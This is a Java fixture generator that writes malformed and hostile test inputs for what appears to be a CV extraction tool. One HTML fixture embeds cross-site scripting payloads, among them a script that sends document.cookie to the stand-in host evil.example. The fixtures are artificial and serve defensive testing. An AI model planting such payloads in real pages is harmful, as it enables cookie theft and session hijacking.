package dev.aiproof.extraction;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.util.Arrays;
import java.util.List;
import java.util.Map;
import java.util.Random;

import org.apache.pdfbox.Loader;
import org.apache.pdfbox.pdmodel.PDDocument;
import org.apache.pdfbox.pdmodel.PDPage;
import org.apache.pdfbox.pdmodel.encryption.AccessPermission;
import org.apache.pdfbox.pdmodel.encryption.StandardProtectionPolicy;
import org.apache.poi.openxml4j.opc.OPCPackage;
import org.apache.poi.poifs.crypt.EncryptionInfo;
import org.apache.poi.poifs.crypt.EncryptionMode;
import org.apache.poi.poifs.crypt.Encryptor;
import org.apache.poi.poifs.filesystem.POIFSFileSystem;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;

/** The small hostile files committed in fixtures/bad. The large or dangerous ones are made by {@link HostileFiles}. */
final class FixtureBadFiles {

    private FixtureBadFiles() {
    }

    static void writeAll(Path dir) throws Exception {
        byte[] nurse = new FixturePdf().column(FixtureCvs.NURSE.lines(), 0, 60, 470).toPdf();
        FixtureGenerator.write(dir.resolve("truncated.pdf"), Arrays.copyOf(nurse, nurse.length * 6 / 10));
        FixtureGenerator.write(dir.resolve("encrypted.pdf"), encryptPdf(nurse));
        FixtureGenerator.write(dir.resolve("password-protected.docx"),
                encryptDocx(FixtureFormats.docx(FixtureCvs.DEVELOPER)));
        FixtureGenerator.write(dir.resolve("executable-renamed.pdf"), executable());
        FixtureGenerator.write(dir.resolve("image-renamed.pdf"), png());
        FixtureGenerator.write(dir.resolve("random-bytes.docx"), random(4096));
        FixtureGenerator.write(dir.resolve("spreadsheet.xlsx"), spreadsheet());
        FixtureGenerator.write(dir.resolve("not-linkedin.zip"), FixtureFormats.zip(Map.of("notes.txt",
                "Shopping list: milk, eggs".getBytes(StandardCharsets.UTF_8), "photo.jpg", random(512))));
        FixtureGenerator.write(dir.resolve("blank-page.pdf"), blankPdf());
        FixtureGenerator.write(dir.resolve("invalid-utf8.txt"), invalidUtf8());
        FixtureGenerator.write(dir.resolve("html-with-scripts.html"), FixtureFormats.html(FixtureCvs.SALES,
                "<script>document.write('INJECTED-SCRIPT'); fetch('https://evil.example/'+document.cookie)</script>",
                "<img src=x onerror=\"alert('INJECTED-ONERROR')\"><iframe src=\"javascript:alert('INJECTED-IFRAME')\"></iframe>"
                        + "<style>p{color:red} /* INJECTED-STYLE */</style><script>alert('INJECTED-SCRIPT')</script>")
                .getBytes(StandardCharsets.UTF_8));
        FixtureGenerator.write(dir.resolve("recipe.txt"), recipe().getBytes(StandardCharsets.UTF_8));
        FixtureGenerator.write(dir.resolve("cover-letter-only.txt"), coverLetter().getBytes(StandardCharsets.UTF_8));
        FixtureGenerator.write(dir.resolve("invoice.html"), invoice().getBytes(StandardCharsets.UTF_8));
        FixtureGenerator.write(dir.resolve("empty-template.pdf"),
                new FixturePdf().column(List.of("Curriculum Vitae", "Your Name",
                        "# Personal information", "# Work experience", "# Education and training", "# Personal skills",
                        "# Languages",
                        "Mother tongue(s)", "# Computer skills"), 0, 60, 470).toPdf());
    }

    private static byte[] encryptPdf(byte[] pdf) throws IOException {
        try (PDDocument doc = Loader.loadPDF(pdf); ByteArrayOutputStream out = new ByteArrayOutputStream()) {
            StandardProtectionPolicy policy = new StandardProtectionPolicy("owner-secret", "user-secret",
                    new AccessPermission());
            policy.setEncryptionKeyLength(128);
            doc.protect(policy);
            doc.save(out);
            return out.toByteArray();
        }
    }

    private static byte[] encryptDocx(byte[] docx) throws Exception {
        try (POIFSFileSystem fs = new POIFSFileSystem(); ByteArrayOutputStream out = new ByteArrayOutputStream()) {
            EncryptionInfo info = new EncryptionInfo(EncryptionMode.standard);
            Encryptor encryptor = info.getEncryptor();
            encryptor.confirmPassword("secret");
            try (OPCPackage opc = OPCPackage.open(new java.io.ByteArrayInputStream(docx));
                    OutputStream os = encryptor.getDataStream(fs)) {
                opc.save(os);
            }
            fs.writeFilesystem(out);
            return out.toByteArray();
        }
    }

    /** An ELF header followed by filler: what a renamed Linux program looks like to a parser. */
    private static byte[] executable() {
        byte[] b = new byte[2048];
        byte[] header = {0x7f, 'E', 'L', 'F', 2, 1, 1, 0, 0, 0, 0, 0, 0, 0, 0, 0, 2, 0, 0x3e, 0, 1, 0, 0, 0};
        System.arraycopy(header, 0, b, 0, header.length);
        return b;
    }

    private static byte[] png() throws IOException {
        java.awt.image.BufferedImage image = new java.awt.image.BufferedImage(32, 32,
                java.awt.image.BufferedImage.TYPE_INT_RGB);
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        javax.imageio.ImageIO.write(image, "png", out);
        return out.toByteArray();
    }

    static byte[] random(int size) {
        byte[] b = new byte[size];
        new Random(42).nextBytes(b);
        return b;
    }

    private static byte[] spreadsheet() throws IOException {
        try (XSSFWorkbook wb = new XSSFWorkbook(); ByteArrayOutputStream out = new ByteArrayOutputStream()) {
            wb.createSheet("CV").createRow(0).createCell(0).setCellValue("Senior Nurse 2019 - 2024");
            wb.write(out);
            return out.toByteArray();
        }
    }

    private static byte[] blankPdf() throws IOException {
        try (PDDocument doc = new PDDocument(); ByteArrayOutputStream out = new ByteArrayOutputStream()) {
            doc.addPage(new PDPage());
            doc.save(out);
            return out.toByteArray();
        }
    }

    /** A CV saved in Latin-1, with byte sequences that are not valid UTF-8 at all. */
    private static byte[] invalidUtf8() {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        byte[] text = FixtureFormats.text(FixtureCvs.ELECTRICIAN).replace("Gareth Pryce", "Gareth Prycé Bjørnsen")
                .getBytes(StandardCharsets.ISO_8859_1);
        out.writeBytes(text);
        out.writeBytes(new byte[] {(byte) 0xC3, 0x28, (byte) 0xA0, (byte) 0xA1, '\n'});
        return out.toByteArray();
    }

    private static String recipe() {
        return """
                Grandma's Apple Crumble
                Serves 6. Preparation 20 minutes, baking 40 minutes.
                Ingredients
                6 apples, peeled and sliced
                2 tablespoons sugar and 1 teaspoon cinnamon
                150 g flour, 100 g butter, 75 g brown sugar
                Method
                Preheat the oven to 180 C. Put the apples in a dish, stir in the sugar and cinnamon.
                Rub the butter into the flour until it looks like breadcrumbs, then stir in the brown sugar.
                Spread the crumble over the apples and bake for 40 minutes until golden. Serve with custard or cream.
                Tip: whisk the cream with a teaspoon of vanilla. Leftovers keep for two days; warm them in the oven.
                This recipe was my grandmother's, and every autumn we bake it when the apples in the garden are ripe.
                """;
    }

    private static String coverLetter() {
        return """
                Samuel Adeyemi
                Birmingham, 3 November 2026

                Dear Hiring Manager,

                I am writing to apply for the role of Contact Centre Manager advertised on your website. For the last four
                years I have led a team of fifteen advisers at a large energy supplier, and before that I answered customers
                myself, by phone, chat and email, for a telecoms company.

                I believe a calm team gives calm answers. In my current role I introduced weekly coaching sessions, a shared
                knowledge base and a simple rota that the advisers plan themselves; satisfaction scores rose and sick days
                fell. I would bring the same habits to your centre, together with a good deal of patience and humour.

                I would welcome the chance to tell you more in an interview. Thank you for reading my letter.

                Yours sincerely,
                Samuel Adeyemi
                """;
    }

    private static String invoice() {
        return """
                <!DOCTYPE html><html><body>
                <h1>INVOICE</h1><p>Invoice number: 2026-0117</p><p>Invoice date: 3 November 2026</p><p>Due date: 3 December 2026</p>
                <p>Bill to: Example Trading Ltd, 1 Example Street, Exampletown</p>
                <table><tr><th>Description</th><th>Qty</th><th>Unit price</th><th>Amount</th></tr>
                <tr><td>Consulting services, October</td><td>12</td><td>950.00</td><td>11,400.00</td></tr>
                <tr><td>Travel expenses</td><td>1</td><td>320.00</td><td>320.00</td></tr></table>
                <p>Subtotal: 11,720.00</p><p>VAT 20%: 2,344.00</p><p>Total due: 14,064.00</p>
                <p>Payment terms: 30 days. Please pay by bank transfer to IBAN GB00 0000 0000 0000 0000 00 quoting the invoice number.</p>
                <p>Thank you for your business. Questions about this invoice? Reply to the email it came with.</p>
                </body></html>
                """;
    }
}
